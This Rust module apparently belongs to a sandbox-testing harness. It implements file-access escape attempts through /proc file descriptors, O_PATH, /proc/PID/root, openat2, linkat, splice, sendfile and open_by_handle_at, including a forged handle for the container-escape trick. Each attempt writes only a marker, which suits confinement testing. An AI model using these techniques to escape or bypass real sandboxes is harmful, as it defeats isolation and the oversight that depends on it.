//! Reaching a file by another way than its name: descriptors, `/proc`, mappings, handles, copies.

use std::ffi::OsStr;
use std::fs::{self, File, OpenOptions};
use std::io::{Read, Write};
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};

use crate::attack::{Args, Attack, Attempt, Failure, Step, attack, c_string};
use crate::files::{MARK, begins_with_the_mark};
use crate::sys::{Arg, call, call_fd, words, write_through_mapping};

const GROUP: &str = "files";
const REOPEN: &str = "reopening through /proc/self/fd";
const PROC: &str = "read /proc/PID/environ, root, cwd, mem of anything outside";
const BASIC: &str = "write, create, delete outside the scope";
const HANDLES: &str = "bpf, keyctl, userfaultfd, perf_event_open, open_by_handle_at";

pub(crate) const ATTACKS: &[Attack] = &[
    attack(GROUP, "reopen-fd", &["path"], REOPEN, reopen_fd),
    attack(GROUP, "reopen-path-fd", &["path"], REOPEN, reopen_path_fd),
    attack(GROUP, "reopen-dirfd", &["dir", "name"], REOPEN, reopen_dirfd),
    attack(GROUP, "write-via-proc-self-root", &["path"], PROC, write_via_proc_self_root),
    attack(GROUP, "write-via-proc-self-cwd", &["dir", "relative"], PROC, write_via_proc_self_cwd),
    attack(GROUP, "proc-root-read", &["pid", "path"], PROC, proc_root_read),
    attack(GROUP, "proc-root-write", &["pid", "path"], PROC, proc_root_write),
    attack(GROUP, "openat2-dotdot", &["dir", "relative"], BASIC, openat2_dotdot),
    attack(GROUP, "tmpfile-linkat", &["dir", "name"], BASIC, tmpfile_linkat),
    attack(GROUP, "mmap-shared-write", &["path"], BASIC, mmap_shared_write),
    attack(GROUP, "fallocate", &["path"], "truncate", fallocate),
    attack(GROUP, "sendfile-into", &["path"], BASIC, sendfile_into),
    attack(GROUP, "copy-file-range-into", &["source", "path"], BASIC, copy_file_range_into),
    attack(GROUP, "splice-into", &["path"], BASIC, splice_into),
    attack(GROUP, "open-by-handle", &["path"], HANDLES, open_by_handle).needs_root(),
    attack(GROUP, "open-root-by-handle", &["anchor"], HANDLES, open_root_by_handle)
        .needs_root()
        .denied_by(&[nix::errno::Errno::ESTALE]),
];

fn through_proc(fd: &impl AsRawFd) -> PathBuf {
    PathBuf::from(format!("/proc/self/fd/{}", fd.as_raw_fd()))
}

fn write_mark(path: &Path, step: &str) -> Result<(), Failure> {
    let mut file = OpenOptions::new().write(true).open(path).step(step)?;
    file.write_all(MARK).step("write")
}

fn reopen_fd(args: &Args) -> Attempt {
    let readable = File::open(args.path(0)).step("open for reading")?;
    write_mark(&through_proc(&readable), "reopen for writing")?;
    begins_with_the_mark(args.path(0))
}

/// An `O_PATH` descriptor needs no permission on the file at all.
fn reopen_path_fd(args: &Args) -> Attempt {
    let handle =
        OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(args.path(0)).step("open as a path")?;
    write_mark(&through_proc(&handle), "reopen for writing")?;
    begins_with_the_mark(args.path(0))
}

fn reopen_dirfd(args: &Args) -> Attempt {
    let directory = OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_PATH | libc::O_DIRECTORY)
        .open(args.path(0))
        .step("open the directory as a path")?;
    let path = through_proc(&directory).join(args.path(1));
    let mut file =
        OpenOptions::new().write(true).create(true).truncate(false).open(path).step("open beneath it")?;
    file.write_all(MARK).step("write")?;
    begins_with_the_mark(&args.path(0).join(args.path(1)))
}

/// `path` as another root sees it.
fn below(root: &str, path: &Path) -> Result<PathBuf, Failure> {
    let inner =
        path.strip_prefix("/").map_err(|_| Failure::Mistake("the path is not absolute".to_owned()))?;
    Ok(Path::new(root).join(inner))
}

fn write_via_proc_self_root(args: &Args) -> Attempt {
    write_mark(&below("/proc/self/root", args.path(0))?, "open for writing")?;
    begins_with_the_mark(args.path(0))
}

fn write_via_proc_self_cwd(args: &Args) -> Attempt {
    std::env::set_current_dir(args.path(0)).step("enter the directory")?;
    write_mark(&Path::new("/proc/self/cwd").join(args.path(1)), "open for writing")?;
    begins_with_the_mark(&args.path(0).join(args.path(1)))
}

fn proc_root_read(args: &Args) -> Attempt {
    let root = format!("/proc/{}/root", args.number::<i32>(0)?);
    let mut byte = [0];
    File::open(below(&root, args.path(1))?).step("open")?.read_exact(&mut byte).step("read")?;
    Ok("read a byte".to_owned())
}

fn proc_root_write(args: &Args) -> Attempt {
    let root = format!("/proc/{}/root", args.number::<i32>(0)?);
    let path = below(&root, args.path(1))?;
    write_mark(&path, "open for writing")?;
    begins_with_the_mark(&path)
}

/// Starts from a descriptor and climbs out of it.
fn openat2_dotdot(args: &Args) -> Attempt {
    let directory = File::open(args.path(0)).step("open the directory")?;
    let relative = args.c_path(1)?;
    // struct open_how: flags, mode, resolve
    let how = words([libc::O_WRONLY as u64, 0, 0]);
    let fd = call_fd(
        libc::SYS_openat2,
        &mut [(&directory).into(), relative.as_c_str().into(), how.as_slice().into(), how.len().into()],
    )
    .step("openat2")?;
    File::from(fd).write_all(MARK).step("write")?;
    begins_with_the_mark(&args.path(0).join(args.path(1)))
}

fn tmpfile_linkat(args: &Args) -> Attempt {
    let mut file = OpenOptions::new()
        .write(true)
        .custom_flags(libc::O_TMPFILE)
        .mode(0o644)
        .open(args.path(0))
        .step("open without a name")?;
    file.write_all(MARK).step("write")?;
    let (from, to) = (c_string(through_proc(&file))?, c_string(args.path(0).join(args.path(1)))?);
    let here = libc::AT_FDCWD;
    call!(libc::SYS_linkat, here, from.as_c_str(), here, to.as_c_str(), libc::AT_SYMLINK_FOLLOW)
        .step("give it a name")?;
    begins_with_the_mark(&args.path(0).join(args.path(1)))
}

fn mmap_shared_write(args: &Args) -> Attempt {
    let file = OpenOptions::new().read(true).write(true).open(args.path(0)).step("open")?;
    if file.metadata().step("stat")?.len() < MARK.len() as u64 {
        return Err(Failure::Mistake("the file is too short to be written through a mapping".to_owned()));
    }
    write_through_mapping(&file, MARK).step("map")?;
    begins_with_the_mark(args.path(0))
}

/// Makes the file longer without a write.
fn fallocate(args: &Args) -> Attempt {
    let file = OpenOptions::new().write(true).open(args.path(0)).step("open")?;
    let before = file.metadata().step("stat")?.len();
    call!(libc::SYS_fallocate, &file, 0, before, 4096).step("fallocate")?;
    let after = file.metadata().step("stat again")?.len();
    if after > before {
        Ok(format!("{before} bytes are now {after}"))
    } else {
        Err(Failure::Held("it did not grow".to_owned()))
    }
}

/// A file of the adversary's own, that is nowhere on a disk.
fn own_content() -> Result<File, Failure> {
    let fd = call_fd(libc::SYS_memfd_create, &mut [c"mark".into(), libc::MFD_CLOEXEC.into()])
        .step("memfd_create")?;
    let mut file = File::from(fd);
    file.write_all(MARK).step("fill the memfd")?;
    Ok(file)
}

fn sendfile_into(args: &Args) -> Attempt {
    let source = own_content()?;
    let target = OpenOptions::new().write(true).open(args.path(0)).step("open")?;
    let mut offset = 0_u64.to_ne_bytes();
    call!(libc::SYS_sendfile, &target, &source, offset.as_mut_slice(), MARK.len()).step("sendfile")?;
    begins_with_the_mark(args.path(0))
}

/// Filesystems copy between their own files only, so the test says which file to copy from.
fn copy_file_range_into(args: &Args) -> Attempt {
    let source = File::open(args.path(0)).step("open the source")?;
    let length = source.metadata().step("stat")?.len();
    let target = OpenOptions::new().write(true).open(args.path(1)).step("open")?;
    call!(libc::SYS_copy_file_range, &source, Arg::Null, &target, Arg::Null, length, 0)
        .step("copy_file_range")?;
    let (ours, theirs) = (fs::read(args.path(0)).step("reread")?, fs::read(args.path(1)).step("reread")?);
    if theirs.starts_with(&ours) {
        Ok(format!("copied {length} bytes"))
    } else {
        Err(Failure::Held("the copy went nowhere".to_owned()))
    }
}

fn splice_into(args: &Args) -> Attempt {
    let (reader, mut writer) = std::io::pipe().step("pipe")?;
    writer.write_all(MARK).step("fill the pipe")?;
    let target = OpenOptions::new().write(true).open(args.path(0)).step("open")?;
    let reader = OwnedFd::from(reader);
    call!(libc::SYS_splice, &reader, Arg::Null, &target, Arg::Null, MARK.len(), 0).step("splice")?;
    begins_with_the_mark(args.path(0))
}

/// A handle names an inode whatever the mounts in front of it say.
fn open_by_handle(args: &Args) -> Attempt {
    let path = args.path(0);
    let mut handle = handle_of(path)?;
    let anchor = File::open(path.parent().unwrap_or(Path::new("/"))).step("open the directory")?;
    open_handle(&anchor, &mut handle)?;
    Ok("opened without its name".to_owned())
}

/// With a made-up handle of inode 2, the root of the filesystem that `anchor` lies on, however little of it is
/// mounted here: the hole through which containers once read their host.
fn open_root_by_handle(args: &Args) -> Attempt {
    let anchor = File::open(args.path(0)).step("open the anchor")?;
    // struct file_handle: handle_bytes, handle_type; FILEID_INO32_GEN is an inode and its generation.
    let fields: [u32; 4] = [8, 1, 2, 0];
    let mut handle: Vec<u8> = fields.iter().flat_map(|field| field.to_ne_bytes()).collect();
    let root = open_handle(&anchor, &mut handle)?;
    let names = fs::read_dir(through_proc(&root)).step("list the root")?.count();
    Ok(format!("the root of the filesystem has {names} entries"))
}

pub(crate) fn handle_of(path: &Path) -> Result<Vec<u8>, Failure> {
    let mut handle = vec![0; 8 + 128];
    handle[..4].copy_from_slice(&128_u32.to_ne_bytes());
    let mut mount = [0; 4];
    let name = c_string(OsStr::new(path))?;
    call!(
        libc::SYS_name_to_handle_at,
        libc::AT_FDCWD,
        name.as_c_str(),
        handle.as_mut_slice(),
        mount.as_mut_slice(),
        0
    )
    .step("name_to_handle_at")?;
    Ok(handle)
}

fn open_handle(anchor: &File, handle: &mut [u8]) -> Result<OwnedFd, Failure> {
    call_fd(
        libc::SYS_open_by_handle_at,
        &mut [anchor.into(), handle.into(), (libc::O_RDONLY | libc::O_CLOEXEC).into()],
    )
    .step("open_by_handle_at")
}
